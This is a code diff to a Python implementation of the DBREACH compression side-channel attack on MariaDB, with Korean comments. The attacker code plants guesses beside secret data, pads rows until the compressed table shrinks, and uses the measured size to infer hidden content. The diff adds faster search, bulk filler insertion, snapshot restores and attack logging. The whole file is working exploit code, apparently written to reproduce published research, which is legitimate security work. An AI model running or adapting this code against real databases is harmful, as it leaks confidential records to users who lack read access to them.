@@ -1,200 +1,502 @@
 # /app/dbreacher_impl.py
 import os
+import time
 import utils.mariadb_utils as utils
 import dbreacher
 import random
+import utils.attack_log as attack_log
+import utils.op_profile as op_profile
 
-LOG_FULL = os.getenv("DBREACH_LOG_FULL", "1") != "0"
+LOG_FULL = os.getenv("DBREACH_LOG_FULL", "1") != "0"  # attack_log에서 debug 레벨 기본값으로 사용
+# linear: +1B씩 증폭(논문 방식) / gallop: galloping+이분 탐색으로 shrink 지점 탐색
+AMP_SEARCH = os.getenv("DBREACH_AMP_SEARCH", "linear")
+AMP_GALLOP_START = 8
+# gallop이 찾은 지점이 선형 스텝(b-1 → b)으로 재확인 안 될 때 구간을 다시 잡는 횟수(넘으면 선형으로)
+AMP_CONFIRM_RETRIES = 4
+# row: filler 한 줄씩 삽입+flush(논문 방식) / bulk: 배치 삽입 후 이분 탐색으로 경계 행 수 결정
+FILLER_MODE = os.getenv("DBREACH_FILLER_MODE", "row")
+FILLER_BATCH = int(os.getenv("DBREACH_FILLER_BATCH", "32"))
+# 1이면 경계 세팅 직후 테이블스페이스 스냅숏, 경계가 깨진 뒤의 재세팅은 복원으로 대체
+SNAPSHOT = os.getenv("DBREACH_SNAPSHOT", "0") == "1"
+SNAPSHOT_MAX_RESTORES = int(os.getenv("DBREACH_SNAPSHOT_MAX_RESTORES", "2"))
 
-def _say(msg: str):
-    # 풀 로그 기본 ON
-    print(msg)
+# 레벨 로그(꺼진 레벨은 포맷도 안 함). 행 값 전체 덤프는 debug, 진행 상황은 info.
+_log = attack_log.get_logger()
+# 페이즈별 연산 지연 계측(DBREACH_PROFILE=1일 때만)
+_prof = op_profile.get_profiler()
 
 class DBREACHerImpl(dbreacher.DBREACHer):
-    def __init__(self, controller: utils.MariaDBController, tablename: str, startIdx: int, maxRowSize: int, fillerCharSet, compressCharAscii: int):
+    def __init__(self, controller: utils.MariaDBController, tablename: str, startIdx: int, maxRowSize: int, fillerCharSet, compressCharAscii: int, ampSearch: str = None, fillerMode: str = None, rng=None, snapshot: bool = None):
         if isinstance(fillerCharSet, set):
             fillerCharSet = list(fillerCharSet)
-        super().__init__(controller, tablename, startIdx, maxRowSize, fillerCharSet, compressCharAscii)
+        super().__init__(controller, tablename, startIdx, maxRowSize, fillerCharSet, compressCharAscii, rng=rng)
         self.compressibilityScoreReady = False
         self.bytesShrunkForCurrentGuess = 0
         self.rowsAdded = 0
         self.rowsChanged = [False, False, False, False]
         self.fillersInserted = False
 
-        _say(f"[INIT] compressChar='{self.compressChar}', fillers={len(self.fillers)} rows, startIdx={self.startIdx}, maxRowSize={self.maxRowSize}")
+        # 증폭 페이즈(보조행) 수와 상한, 각 보조행의 현재 '*' 길이
+        self.numAmpPhases = len(self.rowsChanged) - 1
+        self.ampMax = 100 * self.numAmpPhases
+        self.ampCompLens = [100] * (self.numAmpPhases + 1)
+        self.ampSearch = ampSearch or AMP_SEARCH
+        # 현재 guess에서 쓴 증폭 측정 횟수, guess 직후 크기(탐색 기준)
+        self.ampProbes = 0
+        self.guessBaseSize = None
+
+        # filler 세팅 방식과 통계(세팅마다 갱신: mode, seconds, flushes, rows)
+        self.fillerMode = fillerMode or FILLER_MODE
+        self.flushCount = 0
+        self.lastSetupStats = None
+        self._lastBoundaryRows = None
+
+        # 스냅숏 복원: 같은 스냅숏을 연속 SNAPSHOT_MAX_RESTORES번까지만 쓰고 이후엔 새 filler로 재세팅
+        self.snapshot = (SNAPSHOT if snapshot is None else snapshot) and hasattr(controller, "snapshot_table")
+        self.boundaryBroken = False
+        self._snapshotState = None
+        self._restores = 0
+        self.setupTimes = {}  # mode -> [초]
+
+        _log.info("INIT", "compressChar='%s', fillers=%d rows, startIdx=%d, maxRowSize=%d",
+                  self.compressChar, len(self.fillers), self.startIdx, self.maxRowSize)
 
     def _comp(self, n: int) -> str:
         return self.compressChar * n
 
+    def _flush(self):
+        self.flushCount += 1
+        self.control.flush_and_wait(self.table)
+
+    def _fillerRow(self, i: int) -> str:
+        """i번째 filler 행 값: 0번은 순수 랜덤, 나머지는 100개의 '*' + 랜덤 100B"""
+        if i == 0:
+            return self.fillers[0]
+        return self._comp(100) + self.fillers[i][100:]
+
+    def _recordSetup(self, mode: str, seconds: float, flushes: int):
+        self.lastSetupStats = {"mode": mode, "seconds": seconds, "flushes": flushes, "rows": self.rowsAdded}
+        self.setupTimes.setdefault(mode, []).append(seconds)
+
+    def setupReport(self) -> dict:
+        """세팅 방식별 횟수/평균/합계 시간(초)."""
+        return {mode: {"count": len(ts), "mean_s": sum(ts) / len(ts), "total_s": sum(ts)}
+                for mode, ts in self.setupTimes.items()}
+
+    def _restoreSnapshot(self) -> bool:
+        """경계 세팅 직후 상태로 테이블과 내부 상태를 되돌림. 복원할 수 없으면 False(테이블은 그대로)."""
+        t0 = time.time()
+        flushes0 = self.flushCount
+        if not self.control.restore_table(self.table):
+            return False
+        self._flush()
+        self.rowsAdded, self.fillers = self._snapshotState[0], list(self._snapshotState[1])
+        self.rowsChanged = [False, False, False, False]
+        self.ampCompLens = [100] * (self.numAmpPhases + 1)
+        self.bytesShrunkForCurrentGuess = 0
+        self.boundaryBroken = False
+        self._restores += 1
+        self._recordSetup("restore", time.time() - t0, self.flushCount - flushes0)
+        _log.info("REINSERT", "restored snapshot (%d/%d) rows=%d time=%.3fs", self._restores,
+                  SNAPSHOT_MAX_RESTORES, self.rowsAdded, self.lastSetupStats["seconds"])
+        return True
+
     def reinsertFillers(self) -> bool:
         self.compressibilityScoreReady = False
+        if self.boundaryBroken and self._snapshotState and self._restores < SNAPSHOT_MAX_RESTORES:
+            with _prof.phase("reinsert"):
+                if self._restoreSnapshot():
+                    return True
+            # 이 환경에선 복원 불가 → 스냅숏을 끄고 새로 세팅
+            _log.warn("REINSERT", "snapshot restore unavailable, falling back to filler setup")
+            self.snapshot = False
+            self._snapshotState = None
+            self.control.drop_snapshot(self.table)
+        self.boundaryBroken = False
+        with _prof.phase("reinsert"):
+            self._undoFillers()
+        return self.insertFillers()
+
+    def _undoFillers(self):
         if self.fillersInserted:
-            _say("[REINSERT] begin")
+            _log.info("REINSERT", "begin")
             # 최근에 부풀린 영역 되돌리기
             upto = self.rowsAdded + self.startIdx - (self.bytesShrunkForCurrentGuess // 100)
             for row in range(self.startIdx, upto):
                 s = self._comp(200)
-                _say(f"[REINSERT] UPDATE row={row} -> '{s}'")
+                _log.debug("REINSERT", "UPDATE row=%d -> '%s'", row, s)
                 self.control.update_row(self.table, row, s)
-            self.control.flush_and_wait(self.table)
+            self._flush()
 
             for row in range(self.startIdx, self.rowsAdded + self.startIdx):
-                _say(f"[REINSERT] DELETE row={row}")
+                _log.debug("REINSERT", "DELETE row=%d", row)
                 self.control.delete_row(self.table, row)
-            self.control.flush_and_wait(self.table)
+            self._flush()
 
             self.bytesShrunkForCurrentGuess = 0
             self.fillers = [
                 ''.join(self.rng.choices(self.fillerCharSet, k=self.maxRowSize))
                 for _ in range(self.numFillerRows)
             ]
-            _say(f"[REINSERT] regenerated fillers={len(self.fillers)}")
+            _log.info("REINSERT", "regenerated fillers=%d", len(self.fillers))
         else:
-            _say("[REINSERT] first-time setup (no previous fillers)")
-        return self.insertFillers()
+            _log.info("REINSERT", "first-time setup (no previous fillers)")
 
     def insertFillers(self) -> bool:
+        with _prof.phase("filler"):
+            return self._insertFillers()
+
+    def _insertFillers(self) -> bool:
         self.fillersInserted = True
+        t0 = time.time()
+        flushes0 = self.flushCount
         oldSize = self.control.get_table_size_alloc(self.table)
-        _say(f"[FILLER] old_alloc={oldSize}")
+        _log.info("FILLER", "old_alloc=%s", oldSize)
 
         if not self.fillers:
-            _say("[FILLER] ERROR: fillers empty")
+            _log.warn("FILLER", "ERROR: fillers empty")
             return False
 
         # 첫 filler(guess가 들어갈 자리)는 랜덤 200B로 유지
-        _say(f"[FILLER] INSERT row={self.startIdx} val='{self.fillers[0]}'")
+        _log.debug("FILLER", "INSERT row=%d val='%s'", self.startIdx, self.fillers[0])
         self.control.insert_row(self.table, self.startIdx, self.fillers[0])
-        self.control.flush_and_wait(self.table)
+        self._flush()
         self.rowsAdded = 1
         newSize = self.control.get_table_size_alloc(self.table)
-        _say(f"[FILLER] after first insert alloc={newSize}")
+        _log.info("FILLER", "after first insert alloc=%s", newSize)
 
         if newSize > oldSize:
-            _say("[FILLER] grew too quickly -> abort")
+            _log.warn("FILLER", "grew too quickly -> abort")
+            return False
+
+        if self.fillerMode == "bulk":
+            ok = self._insertFillersBulk(oldSize)
+        else:
+            ok = self._insertFillersRowByRow(oldSize)
+
+        self._recordSetup(self.fillerMode, time.time() - t0, self.flushCount - flushes0)
+        _log.info("FILLER", "setup mode=%s ok=%s rows=%d flushes=%d time=%.3fs",
+                  self.fillerMode, ok, self.rowsAdded,
+                  self.lastSetupStats["flushes"], self.lastSetupStats["seconds"])
+        if not ok:
             return False
 
+        self._lastBoundaryRows = self.rowsAdded
+        self.rowsChanged = [False, False, False, False]
+        self.ampCompLens = [100] * (self.numAmpPhases + 1)
+        _log.info("FILLER", "boundary reached, rowsAdded=%d", self.rowsAdded)
+        if self.snapshot:
+            self.control.snapshot_table(self.table)
+            self._snapshotState = (self.rowsAdded, list(self.fillers))
+            self._restores = 0
+        return True
+
+    def _insertFillersRowByRow(self, oldSize) -> bool:
         # ★ 논문식 경계 탐색: 각 filler를 100개의 '*' + (랜덤 100B)로 구성
-        compression_bootstrapper = self._comp(100)
+        newSize = oldSize
         i = 1
         while newSize <= oldSize:
             if i >= len(self.fillers):
-                _say(f"[FILLER] ERROR: not enough fillers (need {i+1}, have {len(self.fillers)})")
+                _log.warn("FILLER", "ERROR: not enough fillers (need %d, have %d)", i + 1, len(self.fillers))
                 return False
-            filler = self.fillers[i]
-            combined = compression_bootstrapper + filler[100:]  # 100* + 100 random
+            combined = self._fillerRow(i)
             rowid = self.startIdx + i
-            _say(f"[FILLER] INSERT row={rowid} val='{combined}'")
+            _log.debug("FILLER", "INSERT row=%d val='%s'", rowid, combined)
             self.control.insert_row(self.table, rowid, combined)
-            self.control.flush_and_wait(self.table)
+            self._flush()
             newSize = self.control.get_table_size_alloc(self.table)
-            _say(f"[FILLER] alloc now={newSize}")
+            _log.debug("FILLER", "alloc now=%s", newSize)
             i += 1
             self.rowsAdded += 1
+        return True
 
-        self.rowsChanged = [False, False, False, False]
-        _say(f"[FILLER] boundary reached, rowsAdded={self.rowsAdded}")
+    def _setFillerCount(self, n: int):
+        """filler 행을 0..n-1만 남도록 범위 삽입/삭제(한 트랜잭션)."""
+        cur = self.rowsAdded
+        if n > cur:
+            rows = [(self.startIdx + i, self._fillerRow(i)) for i in range(cur, n)]
+            _log.debug("FILLER", "BULK INSERT rows=%d..%d", self.startIdx + cur, self.startIdx + n - 1)
+            self.control.insert_rows(self.table, rows)
+        elif n < cur:
+            _log.debug("FILLER", "BULK DELETE rows=%d..%d", self.startIdx + n, self.startIdx + cur - 1)
+            self.control.delete_rows_range(self.table, self.startIdx + n, self.startIdx + cur - 1)
+        self.rowsAdded = n
+
+    def _insertFillersBulk(self, oldSize) -> bool:
+        """
+        예측한 개수만큼 한 번에 넣고(직전 경계 행 수 근처, 없으면 FILLER_BATCH씩),
+        경계를 넘으면 (lo, hi] 구간을 범위 삭제/재삽입으로 이분 탐색.
+        lo: 안 커진 것이 확인된 행 수, hi: 커진 것이 확인된 행 수.
+        끝나면 테이블은 hi행(경계 직후) 상태 = 행 단위 방식과 같은 결과.
+        """
+        lo, hi = 1, None
+        hint = self._lastBoundaryRows
+        # 직전 경계가 있으면 hint-1(안 커짐 예상), hint(커짐 예상) 순으로 먼저 확인
+        target = hint - 1 if hint and hint > 2 else 1 + FILLER_BATCH
+        while hi is None:
+            if target > len(self.fillers):
+                _log.warn("FILLER", "ERROR: not enough fillers (need %d, have %d)", target, len(self.fillers))
+                if lo >= len(self.fillers):
+                    return False
+                target = len(self.fillers)
+            self._setFillerCount(target)
+            self._flush()
+            newSize = self.control.get_table_size_alloc(self.table)
+            _log.debug("FILLER", "rows=%d alloc now=%s", target, newSize)
+            if newSize > oldSize:
+                hi = target
+            else:
+                lo = target
+                target = hint if hint and target < hint else target + FILLER_BATCH
+
+        while hi - lo > 1:
+            mid = (lo + hi) // 2
+            self._setFillerCount(mid)
+            self._flush()
+            newSize = self.control.get_table_size_alloc(self.table)
+            _log.debug("FILLER", "rows=%d alloc now=%s", mid, newSize)
+            if newSize > oldSize:
+                hi = mid
+            else:
+                lo = mid
+
+        if self.rowsAdded != hi:
+            self._setFillerCount(hi)
+            self._flush()
         return True
 
     def insertGuessAndCheckIfShrunk(self, guess: str) -> bool:
+        with _prof.phase("guess"):
+            return self._insertGuessAndCheckIfShrunk(guess)
+
+    def _insertGuessAndCheckIfShrunk(self, guess: str) -> bool:
         self.compressibilityScoreReady = False
         self.bytesShrunkForCurrentGuess = 0
+        self.ampProbes = 0
 
         if self.rowsChanged[0]:
-            _say(f"[GUESS] reset row={self.startIdx} -> '{self.fillers[0]}'")
+            _log.debug("GUESS", "reset row=%d -> '%s'", self.startIdx, self.fillers[0])
             self.control.update_row(self.table, self.startIdx, self.fillers[0])
             self.rowsChanged[0] = False
 
         compression_bootstrapper = self._comp(100)
-        for i in range(1, 4):
+        for i in range(1, self.numAmpPhases + 1):
+            self.ampCompLens[i] = 100
             if self.rowsChanged[i]:
                 row_to_reset = self.startIdx + self.rowsAdded - i
                 filler = self.fillers[self.rowsAdded - i]
                 reset_str = compression_bootstrapper + filler[100:]
-                _say(f"[GUESS] reset row={row_to_reset} -> '{reset_str}'")
+                _log.debug("GUESS", "reset row=%d -> '%s'", row_to_reset, reset_str)
                 self.control.update_row(self.table, row_to_reset, reset_str)
                 self.rowsChanged[i] = False
 
-        self.control.flush_and_wait(self.table)
+        self._flush()
         old_size = self.control.get_table_size_alloc(self.table)
 
         new_first_row = guess + self.fillers[0][len(guess):]
         if new_first_row != self.fillers[0]:
-            _say(
-                f"[GUESS] UPDATE row={self.startIdx}\n"
-                f"  guess='{guess}'\n"
-                f"  before='{self.fillers[0]}'\n"
-                f"  after ='{new_first_row}'"
+            _log.debug(
+                "GUESS",
+                "UPDATE row=%d\n  guess='%s'\n  before='%s'\n  after ='%s'",
+                self.startIdx, guess, self.fillers[0], new_first_row,
             )
             self.control.update_row(self.table, self.startIdx, new_first_row)
             self.rowsChanged[0] = True
 
-        self.control.flush_and_wait(self.table)
+        self._flush()
         new_size = self.control.get_table_size_alloc(self.table)
-        _say(f"[GUESS] alloc {old_size} -> {new_size}")
-        return new_size < old_size
+        self.guessBaseSize = new_size
+        _log.info("GUESS", "alloc %s -> %s", old_size, new_size)
+        if new_size < old_size:
+            self.boundaryBroken = True
+            return True
+        return False
 
     def getSNoReferenceScore(self, length: int, charSet) -> float:
+        with _prof.phase("ref"):
+            return self._getSNoReferenceScore(length, charSet)
+
+    def _getSNoReferenceScore(self, length: int, charSet) -> float:
         seq = charSet if isinstance(charSet, (list, str, tuple)) else list(charSet)
         refGuess = ''.join(self.rng.choices(seq, k=length))
-        _say(f"[REF:NO] L={length} refGuess='{refGuess}'")
+        _log.info("REF:NO", "L=%d refGuess='%s'", length, refGuess)
         shrunk = self.insertGuessAndCheckIfShrunk(refGuess)
         if shrunk:
             raise RuntimeError("Table shrunk too early on insertion of NO-ref guess")
-        while not shrunk:
-            shrunk = self.addCompressibleByteAndCheckIfShrunk()
+        self.amplifyUntilShrunk()
         return self.getBytesShrunkForCurrentGuess()
 
     def getSYesReferenceScore(self, length: int) -> float:
+        with _prof.phase("ref"):
+            return self._getSYesReferenceScore(length)
+
+    def _getSYesReferenceScore(self, length: int) -> float:
         refGuess = self.fillers[1][100:][:length]
-        _say(f"[REF:YES] L={length} refGuess='{refGuess}' (from fillers[1][100:])")
+        _log.info("REF:YES", "L=%d refGuess='%s' (from fillers[1][100:])", length, refGuess)
         shrunk = self.insertGuessAndCheckIfShrunk(refGuess)
         if shrunk:
             raise RuntimeError("Table shrunk too early on insertion of YES-ref guess")
-        while not shrunk:
-            shrunk = self.addCompressibleByteAndCheckIfShrunk()
+        self.amplifyUntilShrunk()
         return self.getBytesShrunkForCurrentGuess()
 
+    # ---------- amplification ----------
+    def _ampCompLen(self, k: int, b: int) -> int:
+        """
+        b바이트 증폭 상태에서 k번째 보조행의 '*' 길이.
+        phase 1: 100 + b, phase 2: b, phase 3: b - 100 (각 행 101..200),
+        아직 안 닿은 페이즈는 100(리셋 상태), 지난 페이즈는 200.
+        """
+        return 100 + max(0, min(100, b - 100 * (k - 1)))
+
+    def _setAmplification(self, b: int):
+        """보조행들을 b바이트 증폭 상태로 맞춘다(바뀐 행만 UPDATE)."""
+        for k in range(1, self.numAmpPhases + 1):
+            comp_len = self._ampCompLen(k, b)
+            if comp_len == self.ampCompLens[k]:
+                continue
+            comp = self._comp(comp_len)
+            row = self.startIdx + self.rowsAdded - k
+            newval = comp + self.fillers[self.rowsAdded - k][len(comp):]
+            _log.debug("AMP", "b=%d (phase%d) row=%d val='%s'", b, k, row, newval)
+            self.control.update_row(self.table, row, newval)
+            self.ampCompLens[k] = comp_len
+            self.rowsChanged[k] = comp_len != 100
+
     def addCompressibleByteAndCheckIfShrunk(self) -> bool:
         old_size = self.control.get_table_size_alloc(self.table)
         self.bytesShrunkForCurrentGuess += 1
         b = self.bytesShrunkForCurrentGuess
 
-        if b <= 100:
-            comp = self._comp(100 + b)
-            row = self.startIdx + self.rowsAdded - 1
-            newval = comp + self.fillers[self.rowsAdded - 1][len(comp):]
-            _say(f"[AMP] +1B (phase1) row={row} val='{newval}'")
-            self.control.update_row(self.table, row, newval)
-            self.rowsChanged[1] = True
-        elif b <= 200:
-            comp = self._comp(b)
-            row = self.startIdx + self.rowsAdded - 2
-            newval = comp + self.fillers[self.rowsAdded - 2][len(comp):]
-            _say(f"[AMP] +1B (phase2) row={row} val='{newval}'")
-            self.control.update_row(self.table, row, newval)
-            self.rowsChanged[2] = True
-        elif b <= 300:
-            comp = self._comp(b - 100)
-            row = self.startIdx + self.rowsAdded - 3
-            newval = comp + self.fillers[self.rowsAdded - 3][len(comp):]
-            _say(f"[AMP] +1B (phase3) row={row} val='{newval}'")
-            self.control.update_row(self.table, row, newval)
-            self.rowsChanged[3] = True
-        else:
-            _say("[AMP] cap reached (b>300)")
+        if b > self.ampMax:
+            _log.warn("AMP", "cap reached (b>%d)", self.ampMax)
+            self.boundaryBroken = True
             raise RuntimeError("Amplification cap reached")
+        self._setAmplification(b)
+        self.ampProbes += 1
 
-        self.control.flush_and_wait(self.table)
+        self._flush()
         new_size = self.control.get_table_size_alloc(self.table)
-        _say(f"[AMP] alloc {old_size} -> {new_size}")
+        _log.debug("AMP", "alloc %s -> %s", old_size, new_size)
 
         if new_size < old_size:
             self.compressibilityScoreReady = True
-            _say(f"[AMP] SHRUNK! bytesShrunkForCurrentGuess={self.bytesShrunkForCurrentGuess}")
+            _log.info("AMP", "SHRUNK! bytesShrunkForCurrentGuess=%d", self.bytesShrunkForCurrentGuess)
             return True
         return False
 
+    def _probeSize(self, b: int) -> int:
+        """b바이트 증폭을 한 번에 써넣고 flush 후 크기."""
+        self._setAmplification(b)
+        self._flush()
+        self.ampProbes += 1
+        return self.control.get_table_size_alloc(self.table)
+
+    def _probeShrunk(self, b: int) -> bool:
+        """b바이트 증폭 상태가 guess 직후 크기보다 줄었는지 확인."""
+        new_size = self._probeSize(b)
+        _log.debug("AMP", "probe b=%d alloc %s -> %s", b, self.guessBaseSize, new_size)
+        return new_size < self.guessBaseSize
+
+    def _confirmShrunk(self, b: int):
+        """
+        선형 루프와 같은 방식으로 재확인: b-1로 맞춰 크기를 다시 읽고 b로 한 바이트 전진.
+        페이지에 trx id가 박혀 있어 같은 b도 경로에 따라 줄기도/안 줄기도 하므로
+        이분 탐색 결과를 그대로 믿지 않는다. (확인 여부, b-1에서의 크기)
+        """
+        before = self._probeSize(b - 1)
+        after = self._probeSize(b)
+        _log.debug("AMP", "confirm b=%d alloc %s -> %s", b, before, after)
+        return after < before, before
+
+    def _stepShrinkPoint(self, limit: int, pruned: bool) -> bool:
+        """재확인이 계속 실패하면 b=0(guess 직후 상태)부터 선형 +1B 스텝으로 다시 찾는다."""
+        _log.info("AMP", "gallop unconfirmed, falling back to linear steps (probes=%d)", self.ampProbes)
+        self._setAmplification(0)
+        self._flush()
+        self.bytesShrunkForCurrentGuess = 0
+        while not self.addCompressibleByteAndCheckIfShrunk():
+            if pruned and self.bytesShrunkForCurrentGuess >= limit:
+                _log.info("AMP", "no shrink up to bound b=%d (probes=%d)", limit, self.ampProbes)
+                return False
+        return True
+
+    def _searchShrinkPoint(self, lo_hint=None, hi_hint=None, max_bytes=None) -> bool:
+        """
+        galloping + 이분 탐색으로 shrink가 처음 일어나는 b를 찾는다.
+        lo: 안 줄어든 것이 확인된 최대 b, hi: 줄어든 것이 확인된 최소 b.
+        힌트(b_yes/b_no 등)가 있으면 먼저 찍어 구간을 좁힌다.
+        찾은 hi는 선형 루프처럼 hi-1 → hi 스텝으로 재확인하고, 실패하면 구간을 다시 잡는다.
+        결과는 선형 +1B 스텝과 동일하게 bytesShrunkForCurrentGuess에 남는다.
+        max_bytes(< ampMax)까지 안 줄면 탐색을 멈추고 False.
+        """
+        pruned = max_bytes is not None and max_bytes < self.ampMax
+        limit = max_bytes if pruned else self.ampMax
+        lo, hi = 0, None
+        for h in (hi_hint, lo_hint):
+            if h is None:
+                continue
+            h = int(h)
+            if h <= lo or (hi is not None and h >= hi) or h > limit:
+                continue
+            if self._probeShrunk(h):
+                hi = h
+            else:
+                lo = h
+
+        step = AMP_GALLOP_START
+        retries = 0
+        while True:
+            while hi is None:
+                if lo >= limit:
+                    self.bytesShrunkForCurrentGuess = lo
+                    if pruned:
+                        _log.info("AMP", "no shrink up to bound b=%d (probes=%d)", lo, self.ampProbes)
+                        return False
+                    _log.warn("AMP", "cap reached (b>%d)", self.ampMax)
+                    self.boundaryBroken = True
+                    raise RuntimeError("Amplification cap reached")
+                b = min(lo + step, limit)
+                if self._probeShrunk(b):
+                    hi = b
+                else:
+                    lo = b
+                    step *= 2
+
+            while hi - lo > 1:
+                mid = (lo + hi) // 2
+                if self._probeShrunk(mid):
+                    hi = mid
+                else:
+                    lo = mid
+
+            confirmed, before = self._confirmShrunk(hi)
+            if confirmed:
+                break
+            retries += 1
+            if retries > AMP_CONFIRM_RETRIES:
+                return self._stepShrinkPoint(limit, pruned)
+            if before < self.guessBaseSize and hi > 1:
+                # 이 경로에선 hi-1에서 이미 줄어 있다 → 아래로 구간을 다시 잡는다
+                hi -= 1
+                lo = max(0, hi - AMP_GALLOP_START)
+                while lo > 0 and self._probeShrunk(lo):
+                    hi, lo = lo, max(0, lo - AMP_GALLOP_START)
+            else:
+                # hi에서 안 줄었다 → hi를 하한으로 위쪽 gallop 재개
+                lo, hi, step = hi, None, 1
+            _log.debug("AMP", "rebracket lo=%d hi=%s (retry %d)", lo, hi, retries)
+
+        self.bytesShrunkForCurrentGuess = hi
+        self.compressibilityScoreReady = True
+        _log.info("AMP", "SHRUNK! bytesShrunkForCurrentGuess=%d (probes=%d)", hi, self.ampProbes)
+        return True
+
+    def amplifyUntilShrunk(self, lo_hint=None, hi_hint=None, max_bytes=None) -> bool:
+        with _prof.phase("amp"):
+            if self.ampSearch == "gallop":
+                return self._searchShrinkPoint(lo_hint, hi_hint, max_bytes)
+            return super().amplifyUntilShrunk(lo_hint, hi_hint, max_bytes)
+
     def getCompressibilityScoreOfCurrentGuess(self) -> float:
         if self.compressibilityScoreReady:
             return 1.0 / float(self.bytesShrunkForCurrentGuess)